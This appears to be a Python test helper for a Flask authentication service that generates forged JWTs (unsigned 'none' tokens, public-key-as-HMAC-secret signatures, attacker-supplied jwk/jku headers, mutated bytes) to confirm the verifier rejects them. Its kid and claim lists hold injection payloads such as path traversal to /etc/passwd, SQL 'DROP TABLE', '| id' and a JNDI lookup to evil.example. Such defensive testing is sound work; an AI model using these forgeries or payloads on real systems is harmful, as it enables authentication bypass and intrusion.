"""What forgers make of a token: thousands of others, none of which may be good for anything.

Some are signed with the service's own key, which no forger has: what is wrong with them is then all that can be.
"""

import base64
import hmac
import itertools
import json
import random
import time
import uuid
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Any

import jwt as pyjwt
from cryptography.hazmat.primitives import serialization as pem
from flask import Flask

from authapp import keys
from tests.factories import claims

_URL_SAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_NOT_URL_SAFE = '.=+/%~ \t\n\r\x00\x7f",;\\\xa0\xe9\u0661\uff11\u200b'
_HOUR_SECONDS = 3600
ISSUER = "https://auth.example.org"
AUDIENCE = "shop"


@dataclass(frozen=True)
class Forged:
    """A token that is none, and whether one may say of it that its time is over."""

    what: str
    token: str
    is_expired: bool = False


@dataclass(frozen=True)
class Forger:
    """Somebody with tokens of a service, its public key, and a service of his own."""

    app: Flask
    own: Flask
    good: str
    """What is to be forged."""
    others: tuple[str, ...]
    """Good tokens of other kinds, of other people, and of the forger's own service."""

    @property
    def header(self) -> dict[str, Any]:
        return dict(pyjwt.get_unverified_header(self.good))

    @property
    def claims(self) -> dict[str, Any]:
        return claims(self.good)

    @property
    def algorithm(self) -> str:
        return str(self.header["alg"])

    def signed(self, header: object = None, payload: object = None, *, app: Flask | None = None) -> str:
        """Sign with the service's own key, or with that of another service."""
        ring: keys.Keyring = (app or self.app).extensions["authapp"].keyring
        algorithm = pyjwt.PyJWS().get_algorithm_by_name(ring.algorithm)
        return self.put_together(header, payload, lambda text: algorithm.sign(text, ring.signing_key))

    def put_together(self, header: object, payload: object, sign: Callable[[bytes], bytes]) -> str:
        text = f"{encoded(self.header if header is None else header)}."
        text += encoded(self.claims if payload is None else payload)
        return f"{text}.{encoded(sign(text.encode()))}"

    def every(self) -> list[Forged]:
        """Give all of them, each once, in any order."""
        return shuffled(self.good, self._every())

    def _every(self) -> Iterator[Forged]:
        yield from changed_texts(self.good)
        yield from changed_bytes(self.good)
        yield from self._in_other_forms()
        yield from self._unsigned()
        yield from self._signed_with_what_is_public()
        yield from self._signed_with_a_key_of_the_forgers()
        yield from self._with_odd_headers()
        yield from self._with_odd_claims()
        yield from self._with_odd_times()
        yield from self._with_odd_payloads()
        yield from (Forged("a good one of another kind", other) for other in self.others)

    def _in_other_forms(self) -> Iterator[Forged]:
        parts = self.good.split(".")
        for size in range(7):
            for chosen in itertools.product(range(3), repeat=min(size, 4)):
                some = [parts[number] for number in chosen]
                yield Forged("other parts", ".".join([*some, *[""] * max(0, size - 4)]))
        mixed = [part for token in (self.good, *self.others) for part in token.split(".")[:3]]
        for three in itertools.product(mixed, repeat=3):
            yield Forged("parts of several", ".".join(three))
        for number, part in enumerate(parts):
            for other in spellings(part):
                yield Forged("another spelling", ".".join([*parts[:number], other, *parts[number + 1 :]]))

    def _unsigned(self) -> Iterator[Forged]:
        nones = ["".join(letters) for letters in itertools.product(*zip("none", "NONE", strict=True))]
        odd: list[object] = [
            *nones,
            "",
            " none",
            "none ",
            "none\x00",
            "n\u043fne",
            None,
            0,
            False,
            ["none"],
            {"none": 1},
        ]
        for alg in odd:
            for header in ({**self.header, "alg": alg}, {"alg": alg}, {"alg": alg, "typ": "JWT"}):
                for signature in (b"", b"\x00", b"\x00" * 32, b"\x00" * 64, b"\x00" * 256):
                    yield Forged("unsigned", self.put_together(header, None, _always(signature)))
                text = f"{encoded(header)}.{encoded(self.claims)}"
                yield from (
                    Forged("unsigned", f"{text}{end}") for end in ("", ".", "..", f".{self.good.split('.')[2]}")
                )

    def _signed_with_what_is_public(self) -> Iterator[Forged]:
        """The public key as the shared secret, in every spelling that a library might read it in."""
        secrets = [b"", b"secret", b"\x00" * 32, self.header["kid"].encode(), *spellings_of_public_keys(self.app)]
        secrets.append(self.app.config["SECRET_KEY"].encode())
        for secret, bits in itertools.product(secrets, (256, 384, 512)):
            named = {**self.header, "alg": f"HS{bits}"}
            for header in (named, self.header, {"alg": f"HS{bits}"}, {**named, "kid": ""}):
                yield Forged("a public secret", self.put_together(header, None, _by_secret(secret, f"sha{bits}")))

    def _signed_with_a_key_of_the_forgers(self) -> Iterator[Forged]:
        ring: keys.Keyring = self.own.extensions["authapp"].keyring
        jwk = dict(ring.jwks[0]) if ring.jwks else {"kty": "oct", "k": encoded(ring.signing_key)}
        offers: list[dict[str, object]] = [
            {},
            {"jwk": jwk},
            {"jwk": {**jwk, "kid": self.header["kid"]}},
            {"jku": "http://127.0.0.1:9/.well-known/jwks.json"},
            {"jku": "file:///etc/passwd"},
            {"x5u": "http://127.0.0.1:9/chain.pem"},
            {"x5c": [base64.b64encode(b"a certificate").decode()]},
            {"x5t": "x", "x5t#S256": "x"},
            {"zip": "DEF"},
            {"cty": "JWT"},
            {"typ": "JWE"},
            {"enc": "A128GCM"},
        ]
        for offer, critical, kid in itertools.product(offers, (False, True), (*KIDS, self.header["kid"], ring.kid)):
            header = {**self.header, **offer, "kid": kid, **({"crit": list(offer)} if critical else {})}
            yield Forged("a key of the forger's", self.signed(header, app=self.own))
        for without in ({"alg": self.algorithm}, {"alg": self.algorithm, "typ": "JWT", **offers[1]}):
            yield Forged("a key of the forger's", self.signed(without, app=self.own))

    def _with_odd_headers(self) -> Iterator[Forged]:
        for kid in KIDS:
            yield Forged("signed, unknown kid", self.signed({**self.header, "kid": kid}))
        yield Forged("signed, no kid", self.signed({"alg": self.algorithm}))
        others: list[object] = ["HS384", "RS512", "PS256", "ES384", "ES256K", "Ed25519", "", None, 0, []]
        for alg in (*others, self.algorithm.swapcase()):
            yield Forged("signed, other alg", self.signed({**self.header, "alg": alg}))
        criticals: list[object] = [[], ["exp"], ["x"], "b64", None, 0, {}, [0], [None], [["b64"]], ["b64", "x"]]
        for critical in criticals:
            for plain in (False, True, None, 0, "false"):
                yield Forged("signed, crit", self.signed({**self.header, "crit": critical, "b64": plain}))
        # The one that PyJWT knows (RFC 7797), without and with the payload that it then leaves elsewhere.
        for payload in (None, b""):
            yield Forged("signed, b64", self.signed({**self.header, "crit": ["b64"], "b64": False}, payload))
            yield Forged("signed, b64", self.signed({**self.header, "b64": False}, payload))
        for raw in (b"", b"[]", b"null", b"0", b'"x"', b"{", b"\xff", b"[" * 2000, b'{"a":' * 500 + b"0" + b"}" * 500):
            yield Forged("signed, no header", self.signed(raw))

    def _with_odd_claims(self) -> Iterator[Forged]:
        good = self.claims
        for claim in ("exp", "jti", "sub", "type", "sid", "iss", "aud"):
            yield Forged(f"signed, no {claim}", self.signed(None, {name: good[name] for name in good if name != claim}))
        for claim, value in itertools.product(("jti", "sub", "sid", "type", "iss"), ODD_VALUES):
            yield Forged(f"signed, odd {claim}", self.signed(None, {**good, claim: value}))
        for value in (*ODD_VALUES, ["forum"], ["Shop"], "shop ", {"shop": 1}):
            yield Forged("signed, odd aud", self.signed(None, {**good, "aud": value}))
        for claim, _ in itertools.product(("sub", "sid"), range(50)):
            yield Forged(f"signed, unknown {claim}", self.signed(None, {**good, claim: str(uuid.uuid4())}))

    def _with_odd_times(self) -> Iterator[Forged]:
        now, good = int(time.time()), self.claims
        later = now + _HOUR_SECONDS
        for value in (*ODD_VALUES, str(later), later + 0.5, float(later), [later], 1e17, 1e300, 10**400, -(10**400)):
            yield Forged("signed, odd exp", self.signed(None, {**good, "exp": value}), is_expired=True)
        for age in (11, 12, 60, _HOUR_SECONDS, 10**6, now - 1, now):
            yield Forged("signed, expired", self.signed(None, {**good, "exp": now - age}), is_expired=True)
        for ahead, claim in itertools.product((_HOUR_SECONDS, 10**6, 10**9, 10**15, 1e18), ("nbf", "iat")):
            yield Forged(f"signed, {claim} ahead", self.signed(None, {**good, claim: now + ahead}))
        for value, claim in itertools.product(("x", [], {}, float("inf"), float("nan")), ("nbf", "iat")):
            yield Forged(f"signed, odd {claim}", self.signed(None, {**good, claim: value}))

    def _with_odd_payloads(self) -> Iterator[Forged]:
        text = json.dumps(self.claims)
        # RFC 7519, 4: of a claim that stands twice, a reader may take the last.
        for claim, value in itertools.product(
            ("exp", "jti", "sub", "sid", "type", "iss", "aud"), ("0", "null", '"x"', "[]")
        ):
            twice = f'{text[:-1]}, "{claim}": {value}}}'
            yield Forged("signed, a claim twice", self.signed(None, twice.encode()), is_expired=claim == "exp")
        for raw in (
            b"[" * 4000,
            b"[" * 1400 + b"]" * 1400,
            b'{"a":' * 400 + b"1" + b"}" * 400,
            *(start + text.encode() + end for start, end in ((b"[", b"]"), (b"", b"{}"), (b"", b"\x00"))),
            text[:-1].encode(),
            text.replace('"', "'").encode(),
            text[:-1].encode() + b', "a": ' + b"9" * 1500 + b', "exp": 1e999}',
            text[:-1].encode() + b', "a": "\xff"}',
            *(b"", b"[]", b"null", b"0", b'"x"', b"{}", b"\xff\xfe", b"{", b"NaN", zlib.compress(text.encode())),
        ):
            yield Forged("signed, odd payload", self.signed(None, raw))
        yield Forged("a token in a token", self.signed({**self.header, "cty": "JWT"}, self.good.encode()))


KIDS: list[object] = [
    "",
    "0",
    "../" * 5 + "dev/null",
    "/dev/null",
    "/proc/self/environ",
    "..\\..\\windows\\win.ini",
    "' OR 1=1 --",
    "' UNION SELECT 'secret' --",
    "x'; DROP TABLE auth_user; --",
    "| id",
    "${jndi:ldap://evil.example}",
    "http://127.0.0.1:9/key",
    "\x00",
    "a" * 2000,
    "\ud800",
    "\u0661",
    None,
    0,
    1.5,
    True,
    [],
    ["x"],
    {},
    {"kid": "x"},
    float("nan"),
]
ODD_VALUES: list[Any] = [
    None,
    0,
    1,
    -1,
    1.5,
    float("nan"),
    float("inf"),
    -float("inf"),
    10**40,
    True,
    False,
    [],
    {},
    [["x"]],
    "",
    " ",
    "x",
    "\x00",
    "\ud800",
    "\U0001f600",
    "' OR 1=1 --",
    "0" * 31,
    "0" * 33,
    "g" * 32,
    "../../etc/passwd",
    "access ",
    "ACCESS",
    "id",
    "null",
    "true",
    "1e3",
    "x" * 1500,
    ["access", "refresh"],
    {"$ne": None},
    {"type": "access"},
    -(2**63),
    2**64,
]


def encoded(part: object) -> str:
    """Encode as in a token: bytes as they are, everything else as JSON."""
    raw = part if isinstance(part, bytes) else json.dumps(part).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _always(signature: bytes) -> Callable[[bytes], bytes]:
    return lambda _text: signature


def _by_secret(secret: bytes, digest: str) -> Callable[[bytes], bytes]:
    return lambda text: hmac.digest(secret, text, digest)


def shuffled(good: str, every: Iterable[Forged]) -> list[Forged]:
    """Give each of these once, in an order that is always the same; none of them is the good one."""
    # Blanks around a header's value are no part of it.
    found = {forged.token: forged for forged in every if forged.token.strip(" \t") not in ("", good)}
    ordered = list(found.values())
    random.Random(len(ordered)).shuffle(ordered)
    return ordered


def changed_texts(good: str, *, each: int = 9) -> Iterator[Forged]:
    """Change, leave out and put in characters, at every place."""
    choose = random.Random(good[:20])
    for place in range(len(good) + 1):
        before, after = good[:place], good[place + 1 :]
        odd = [*choose.sample(_URL_SAFE, each), *choose.sample(_NOT_URL_SAFE, 2)]
        if place < len(good):
            yield Forged("left out", before + after)
            yield Forged("twice", before + good[place] * 2 + after)
            yield Forged("case", before + good[place].swapcase() + after)
            yield from (Forged("changed", before + char + after) for char in odd)
            # The two of its 64 values that differ in the lowest bits, which may not count.
            near = _URL_SAFE.find(good[place]) ^ 1, _URL_SAFE.find(good[place]) ^ 2
            yield from (Forged("near", before + _URL_SAFE[number % 64] + after) for number in near)
        yield from (Forged("put in", before + char + good[place:]) for char in odd)
    for _ in range(500):
        first, second = sorted(choose.sample(range(len(good)), 2))
        yield Forged("cut", good[:first] + good[second:])
        yield Forged("repeated", good[:second] + good[first:])
        yield Forged("reversed", good[:first] + good[first:second][::-1] + good[second:])


def changed_bytes(good: str) -> Iterator[Forged]:
    """Flip every bit of what the parts encode, and leave out, put in and double every byte of it."""
    parts = good.split(".")
    for number, part in enumerate(parts):
        raw = base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))
        for changed in _changed(raw):
            yield Forged("bytes", ".".join([*parts[:number], encoded(changed), *parts[number + 1 :]]))


def _changed(raw: bytes) -> Iterator[bytes]:
    for place in range(len(raw)):
        before, after = raw[:place], raw[place + 1 :]
        yield from (before + bytes([raw[place] ^ 1 << bit]) + after for bit in range(8))
        yield from (before + after, before + raw[place : place + 1] * 2 + after, before + b"\x00" + raw[place:])
    yield from (b"", raw + b"\x00", raw + raw, raw[::-1], b"\x00" * len(raw), raw[: len(raw) // 2])


def spellings(part: str) -> Iterator[str]:
    """Give other texts that a lax reader takes for the same bytes, or nearly."""
    last = _URL_SAFE.find(part[-1])
    yield from (part[:-1] + _URL_SAFE[(last & ~15) | low] for low in range(16))
    yield from (part + end for end in ("=", "==", "===", "A", "AA", "AAAA", "%3D", "\n", "\r\n", " ", "\x00", "."))
    yield from (start + part for start in ("=", "\n", " ", "\ufeff", "A", "%20"))
    yield from (
        part[:place] + odd + part[place:] for place in (1, len(part) // 2) for odd in ("\n", " ", "=", "!", "%0A")
    )
    yield part.replace("-", "+").replace("_", "/") + "="
    yield part.translate({ord("0") + digit: 0xFF10 + digit for digit in range(10)})
    yield from (part.upper(), part.lower(), f'"{part}"', f"{part},{part}", part * 2, encoded(part.encode()))


def spellings_of_public_keys(app: Flask) -> list[bytes]:
    """Give what an unwary verifier might take for a shared secret: PEM in several ways, DER, SSH, parts of a JWK."""
    ring: keys.Keyring = app.extensions["authapp"].keyring
    found: list[bytes] = []
    for key, jwk in zip(ring.verifying_keys.values(), ring.jwks, strict=False):
        assert not isinstance(key, bytes)
        text = key.public_bytes(pem.Encoding.PEM, pem.PublicFormat.SubjectPublicKeyInfo)
        der = key.public_bytes(pem.Encoding.DER, pem.PublicFormat.SubjectPublicKeyInfo)
        ssh = key.public_bytes(pem.Encoding.OpenSSH, pem.PublicFormat.OpenSSH)
        raw = [text, text.strip(), text.replace(b"\n", b""), text.replace(b"\n", b"\r\n"), der, ssh]
        found += [*raw, *map(base64.b64encode, raw), json.dumps(jwk).encode(), json.dumps(jwk, sort_keys=True).encode()]
        found += [member.encode() for member in jwk.values()]
        found += [base64.urlsafe_b64decode(jwk[name] + "==") for name in ("n", "x", "y") if name in jwk]
    return found
